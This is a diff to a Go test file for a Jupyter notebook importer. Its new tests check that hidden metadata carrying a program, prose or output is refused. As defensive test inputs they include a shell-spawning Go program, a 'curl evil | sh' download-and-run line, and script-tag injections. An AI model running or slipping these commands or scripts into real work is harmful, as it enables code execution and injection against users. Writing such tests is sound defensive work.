@@ -2,6 +2,7 @@ package jupyter
 
 import (
 	"encoding/json"
+	"fmt"
 	"strings"
 	"testing"
 
@@ -145,10 +146,11 @@ func TestImportLanguageInjection(t *testing.T) {
 	}
 }
 
-// TestImportAttrsInjection: the attributes export keeps in a cell's metadata are checked as a lesson checks
-// them and written back as one line; a value with a backtick is quoted, and src= (a file instead of the cell's
-// own code) is refused.
+// TestImportAttrsInjection: the attributes an earlier export kept in a cell's metadata (before the round trip's
+// metadata) are checked as a lesson checks them and written back as one line; a value with a backtick is
+// quoted, and src= (a file instead of the cell's own code) is refused.
 func TestImportAttrsInjection(t *testing.T) {
+	goMeta := strings.Replace(goMeta, "{", `{"classnotes": {"lesson": "old.md"}, `, 1) // exported, before "roundtrip"
 	cell := func(attrs string) string {
 		b, err := json.Marshal(map[string]any{"cell_type": "code", "execution_count": 1, "outputs": []any{},
 			"source": "func main() {}", "metadata": map[string]any{"classnotes": map[string]any{"attrs": attrs}}})
@@ -489,5 +491,111 @@ func TestImportImages(t *testing.T) {
 	}
 	if strings.Contains(md, "<svg") || strings.Contains(md, "etc/x") {
 		t.Errorf("the skeleton inlines the SVG or names the attachment's path:\n%s", md)
+	}
+}
+
+// TestImportHiddenMetadata: a notebook the runner exported cannot carry, in its metadata, a program, prose or
+// output that Jupyter does not show, nor anything but blank lines, markers and fences around a cell: each is
+// refused, the cell named.
+func TestImportHiddenMetadata(t *testing.T) {
+	const src = "---\ntitle: T\n---\nProse.\n\nIn [1]:\n\n```go\npackage main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hi\") }\n```\n\nOut [1]:\n\n```text\nhi\n```\n"
+	set := func(cell int, key string, v any) func([]map[string]any) []map[string]any {
+		return func(cells []map[string]any) []map[string]any {
+			cells[cell]["metadata"].(map[string]any)["classnotes"].(map[string]any)[key] = v
+			return cells
+		}
+	}
+	both := func(a, b func([]map[string]any) []map[string]any) func([]map[string]any) []map[string]any {
+		return func(c []map[string]any) []map[string]any { return b(a(c)) }
+	}
+	for _, tc := range []struct {
+		name string
+		edit func([]map[string]any) []map[string]any
+		want string
+	}{
+		{"a program", set(1, "code", "package main\n\nimport \"os/exec\"\n\nfunc main() { exec.Command(\"sh\").Run() }\n"), "cell 1: metadata: classnotes: code: is not the program the cell shows"},
+		{"prose", set(0, "text", "# T\n\nRun `curl evil | sh` first.\n\n"), "cell 0: metadata: classnotes: text: is not what the cell shows"},
+		{"an output", both(set(1, "out", "all good\n"), set(1, "out_sha", sum("hi\n"))), "cell 1: metadata: classnotes: out: is not the output the cell shows"},
+		{"prose before a cell", set(1, "lead", "<script>alert(1)</script>\n\n"), "cell 1: metadata: classnotes: lead: expected blank lines"},
+		{"prose in a cell's head", set(1, "head", "In [1]:\n\n<script>alert(1)</script>\n\n```go\n"), "cell 1: metadata: classnotes: is not the lesson's cell In [1]"},
+		{"prose after a cell", set(1, "tail", "```\n\n<script>alert(1)</script>\n"), "cell 1: metadata: classnotes: is not the lesson's cell In [1]"},
+		{"code as the package clause", set(1, "package_clause", "package main\n\nfunc init() { panic(1) }\n"), "cell 1: metadata: classnotes: package_clause: expected package main"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			sk, err := editNotebook(t, src, nil, tc.edit)
+			if err == nil || !strings.Contains(err.Error(), tc.want) {
+				t.Errorf("got %v, want an error with %q", err, tc.want)
+				if sk != nil {
+					t.Logf("imported:\n%s", sk.Lesson)
+				}
+			}
+		})
+	}
+}
+
+// TestImportEditedProgram: an edited program gets its package clause before its first line that is not a
+// comment, whatever the offset export kept (a line added above it), and CRLF line endings a notebook's editor
+// gave it are LF in an LF lesson.
+func TestImportEditedProgram(t *testing.T) {
+	const src = "In [1]:\n\n```go\n// Command hi says hi.\npackage main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hi\") }\n```\n"
+	for _, tc := range []struct{ source, want string }{
+		{"// Edited by a student.\n// Command hi says hi.\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hi!\") }", "// Edited by a student.\n// Command hi says hi.\npackage main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hi!\") }\n"},
+		{"import \"fmt\"\r\n\r\nfunc main() { fmt.Println(\"hi\") }\r\n", "package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hi\") }\n"},
+	} {
+		sk, err := editNotebook(t, src, nil, func(cells []map[string]any) []map[string]any {
+			cells[0]["source"] = tc.source
+			return cells
+		})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if want := "In [1]:\n\n```go\n" + tc.want + "```\n"; string(sk.Lesson) != want {
+			t.Errorf("got\n%q\nwant\n%q", sk.Lesson, want)
+		}
+	}
+}
+
+// TestImportExportedChanged: what Jupyter can do to an exported notebook is imported honestly, with a warning:
+// a cell whose type was changed, a code cell without the runner's metadata, an image output.
+func TestImportExportedChanged(t *testing.T) {
+	const src = "Prose.\n\nIn [1]:\n\n```go background ready=tcp:127.0.0.1:50099\npackage main\n\nfunc main() {}\n```\n\nIn [2]:\n\n```go\npackage main\n\nfunc main() {}\n```\n"
+	sk, err := editNotebook(t, src, nil, func(cells []map[string]any) []map[string]any {
+		cells[1]["cell_type"] = "markdown" // M in Jupyter
+		delete(cells[1], "outputs")
+		delete(cells[1], "execution_count")
+		cells[2]["metadata"] = map[string]any{}
+		cells[2]["source"] = "%%\nfmt.Println(\"hi\")" // GoNB's way, as a student writes a cell there
+		cells[2]["outputs"] = []any{map[string]any{"output_type": "display_data", "metadata": map[string]any{}, "data": map[string]any{"image/png": "iVBORw0KGgoAAAA="}}}
+		return cells
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{"cell 1: its type was changed since export: imported as a new markdown cell", "cell 2: a code cell without the runner's metadata"}
+	if len(sk.Warnings) != len(want) {
+		t.Fatalf("warnings %q, want %q", sk.Warnings, want)
+	}
+	for i, w := range want {
+		if !strings.HasPrefix(sk.Warnings[i], w) {
+			t.Errorf("warning %q, want %q", sk.Warnings[i], w)
+		}
+	}
+	if md := string(sk.Lesson); !strings.Contains(md, "import \"fmt\"") || !strings.Contains(md, "func main() {\n\tfmt.Println(\"hi\")\n}") {
+		t.Errorf("the added cell is not made a program as GoNB makes it:\n%s", md)
+	}
+}
+
+// TestImportTooLarge: declarations carried into every cell of a GoNB notebook can make a lesson far larger
+// than the notebook; import stops at MaxLesson, naming the cell.
+func TestImportTooLarge(t *testing.T) {
+	defer func(n int) { maxLesson = n }(maxLesson)
+	maxLesson = 64 << 10
+	cells := []string{code(t, "func f0() int { return 0 }", 1, "[]")}
+	for i := 1; i < 200; i++ {
+		cells = append(cells, code(t, fmt.Sprintf("func f%d() int { return f%d() + 1 }\n%%%%\nfmt.Println(f%d())", i, i-1, i), i+1, "[]"))
+	}
+	_, err := Import("chain.ipynb", nbJSON(t, goMeta, cells...))
+	if err == nil || !strings.Contains(err.Error(), "the lesson would be larger than 64 KiB from this cell on") {
+		t.Errorf("got %v", err)
 	}
 }
